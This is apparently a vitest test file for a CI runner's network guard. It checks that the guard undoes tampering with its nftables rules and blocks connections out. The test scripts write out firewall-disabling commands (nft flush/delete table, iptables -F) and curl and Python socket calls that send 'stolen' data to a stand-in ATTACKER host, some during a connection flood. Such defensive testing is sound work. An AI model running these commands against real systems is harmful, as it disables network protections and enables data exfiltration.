/** B02: root in the job takes the packet filter's rules away, or adds its own, where policy leaves it the right to. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER } from "../../support/internet/addresses.ts";
import {
  type AttackScene,
  createAttackScene,
  findObstacle,
  toPython,
} from "./support/attack-scene.ts";
import { type GuardedPod, toGuardedPod, toPolicy } from "./support/guarded-pod.ts";

const obstacle = findObstacle();
const TABLE = "inet runner_guard";
const POLICY = toPolicy({ allow: ["github.test"], "network-admin": "keep" });

const TAMPERING = [
  ["nft flush ruleset", "nft flush ruleset", "table deleted"],
  ["nft delete table", `nft delete table ${TABLE}`, "table deleted"],
  ["nft flush table", `nft flush table ${TABLE}`, "rule deleted"],
  ["nft flush chain", `nft flush chain ${TABLE} judge`, "rule deleted"],
  [
    "nft delete rule",
    `nft delete rule ${TABLE} output handle $(${handleOf("output", "jump judge_own")})`,
    "rule deleted",
  ],
  ["a rule at the top that accepts", `nft insert rule ${TABLE} output accept`, "rule added"],
  [
    "a chain of the policy replaced",
    `printf 'flush chain ${TABLE} refuse\\nadd rule ${TABLE} refuse accept\\n' | nft -f -`,
    "rule",
  ],
  ["elements taken out of a set", `nft flush set ${TABLE} learned4`, "element deleted"],
  [
    "elements put into a set",
    `nft add element ${TABLE} learned4 '{ ${ATTACKER.ipv4} . tcp . 80 }'`,
    "element added",
  ],
  ["the table made dormant", `nft add table ${TABLE} '{ flags dormant; }'`, "table"],
] as const;

function handleOf(chain: string, rule: string): string {
  return `nft -a list chain ${TABLE} ${chain} | sed -n 's/.*${rule}.*handle //p'`;
}

describe.skipIf(obstacle !== "")(`root in the job changes the packet filter${obstacle}`, () => {
  let scene: AttackScene;
  beforeAll(async () => {
    scene = await createAttackScene();
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  test.each(TAMPERING)("%s is undone within a second, and told", async (_, attack, told) => {
    const { pod } = scene;
    const curl = `curl -4 -sS -m 3 --cacert ${pod.caFile}`;
    const script = [
      `${curl} https://github.test/before`,
      `${LISTING} >before`,
      attack,
      toWait("before"),
      `${curl} http://${ATTACKER.ipv4}/stolen && echo stolen`,
      // The name was learned before; no question is asked again.
      `${curl} --resolve github.test:443:198.51.100.10 https://github.test/after`,
    ].join("\n");
    const run = await pod.guarded(script, { policy: POLICY });

    expect(run.stdout).toBe("github.test GET /before\nwhole again\ngithub.test GET /after\n");
    expect(run.stderr).toContain(`Failed to connect to ${ATTACKER.ipv4} port 80`);
    expect(destinationsOf(run.escaped)).toEqual(["198.51.100.10:443"]);
    expect(run.report.enforcement?.restored).toBeGreaterThanOrEqual(1);
    const finding = run.report.findings.find(({ rule }) => rule.id === "guard-tamper");
    expect(finding?.message).toContain("runner_guard was changed by nft");
    expect(finding?.evidence["what"]).toContain(told);
    const culprit = run.report.processes.find(({ pid }) => pid === finding?.evidence["pid"]);
    expect(culprit?.args[0]).toBe("nft");
    expect(run.report.connections).toContainEqual(
      expect.objectContaining({
        destination: expect.objectContaining({ ip: ATTACKER.ipv4, port: 80 }),
        verdict: "blocked",
      }),
    );
  });

  test("iptables -F finds nothing of the guard's", async () => {
    const { pod } = scene;
    const script = [
      "nft -t -s list ruleset >before",
      "iptables -F; iptables -t nat -F; iptables -X; iptables -P OUTPUT ACCEPT; ip6tables -F",
      "iptables -I OUTPUT -j ACCEPT; iptables -D OUTPUT -j ACCEPT",
      `nft -t -s list table ${TABLE} >after; grep -qF "$(cat after)" before && echo whole`,
      `curl -sS -m 3 http://${ATTACKER.ipv4}/stolen && echo stolen`,
      "for f in ip ip6; do for t in filter nat; do nft delete table $f $t; done; done 2>/dev/null",
      "true",
    ].join("\n");
    const run = await pod.guarded(script, { policy: POLICY });

    expect(run.stdout).toBe("whole\n");
    expect(run.escaped).toEqual([]);
    expect(run.report.enforcement).toMatchObject({ packetsRefused: 1, restored: 0 });
    const tampering = run.report.findings.filter(({ rule }) => rule.id === "guard-tamper");
    const messages = tampering.map(({ message }) => message);
    expect(messages.filter((message) => !message.includes("table ip filter"))).toEqual([]);
  });

  test("what was begun in the gap does not live on", async () => {
    const { internet } = scene;
    const pod = await createOwnPod(scene);
    const run = await pod.guarded(toPython(FLOW_OF_THE_GAP), { policy: POLICY });

    const [gap = "", ...after] = run.stdout.trim().split("\n");
    expect(gap).toMatch(/^connected after \d+ ms$/);
    expect(after).toEqual(["whole again", "Connection reset by peer"]);
    expect((await internet.visits({ server: "attacker" })).map(({ said }) => said)).toEqual([]);
    expect(run.report.findings.map(({ rule }) => rule.id)).toContain("guard-tamper");
  });

  test("rules deleted again and again amid a flood of connections", async () => {
    const pod = await createOwnPod(scene);
    const run = await pod.guarded(toPython(FLOOD), { policy: POLICY });
    const [, tries = 0, connected = 0, tampered = 0] =
      /^tries (\d+) connected (\d+) tampered (\d+)$/.exec(run.stdout.trim())?.map(Number) ?? [];

    expect(run.status).toBe(0);
    expect(tries).toBeGreaterThanOrEqual(ENOUGH_TRIES);
    expect(tampered).toBeGreaterThanOrEqual(ENOUGH_DELETIONS);
    // Each gap is open for as long as the guard takes to look and nft to load; never for most of the time.
    expect(connected / tries).toBeLessThan(0.5);
    expect(run.report.mode.effective).toBe("block");
    expect(run.report.enforcement?.restored).toBeGreaterThan(tampered / 2);
    expect(run.report.enforcement?.packetsRefused).toBeGreaterThan((tries - connected) / 2);
    const told = run.report.findings.reduce((sum, { count }) => sum + count, 0);
    expect(told).toBeGreaterThan(tampered / 4);
    expect(run.report.dropped.byReason).toEqual({});
  });
});

/** Connections of a gap end long after it, with packets that no other test is to find on its wire. */
async function createOwnPod({ internet }: AttackScene): Promise<GuardedPod> {
  return toGuardedPod(internet, await internet.pod());
}

/** Without what changes by itself: counts, and the time that elements have. */
const LISTING = "nft -s list ruleset | sed -E 's/ (timeout|expires) [0-9dhms]+//g'";

function toWait(file: string): string {
  return [
    "for look in $(seq 100); do",
    `  ${LISTING} >now; cmp -s now ${file} && echo whole again && break; sleep 0.01`,
    "done",
  ].join("\n");
}

function destinationsOf(
  packets: readonly {
    readonly destination: { readonly ip: string; readonly port: number | undefined };
  }[],
): string[] {
  return [...new Set(packets.map(({ destination: { ip, port } }) => `${ip}:${port}`))].toSorted();
}

const FLOW_OF_THE_GAP = `
import socket, subprocess, time
listing = lambda: subprocess.run(["nft", "-t", "-s", "list", "ruleset"], capture_output=True).stdout
before = listing()
began = time.monotonic()
nft = subprocess.Popen(["nft", "delete", "table", "${TABLE.split(" ")[0]}", "${TABLE.split(" ")[1]}"])
while time.monotonic() - began < 5:
    s = socket.socket()
    try: s.connect(("${ATTACKER.ipv4}", 80)); break
    except OSError: s.close()
print("connected after", int((time.monotonic() - began) * 1000), "ms")
nft.wait()
while listing() != before:
    if time.monotonic() - began > 3: print("not whole"); break
else: print("whole again")
try:
    for _ in range(100): s.send(b"stolen"); time.sleep(0.01)
    print("sent")
except OSError as error: print(error.strerror)
`;

const ENOUGH_TRIES = 1_000;
const ENOUGH_DELETIONS = 11;

/** For 3 s, and where the machine is busy until it was a flood, for 25 s at most. */
const FLOOD = `
import socket, subprocess, threading, time
began = time.monotonic()
def goes_on():
    enough = counts["tries"] >= ${ENOUGH_TRIES} and counts["tampered"] >= ${ENOUGH_DELETIONS}
    return time.monotonic() < began + (3 if enough else 25)
counts = {"tries": 0, "connected": 0, "tampered": 0}
def flood():
    while goes_on():
        counts["tries"] += 1
        s = socket.socket(); s.settimeout(0.2)
        try:
            s.connect(("${ATTACKER.ipv4}", 80)); counts["connected"] += 1
            s.send(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
            s.recv(100)
        except OSError: pass
        finally: s.close()
threads = [threading.Thread(target=flood) for _ in range(4)]
for t in threads: t.start()
while goes_on():
    counts["tampered"] += subprocess.run(["nft", "delete", "table", "inet", "runner_guard"], stderr=subprocess.DEVNULL).returncode == 0
for t in threads: t.join()
print(*(f"{name} {count}" for name, count in counts.items()))
`;
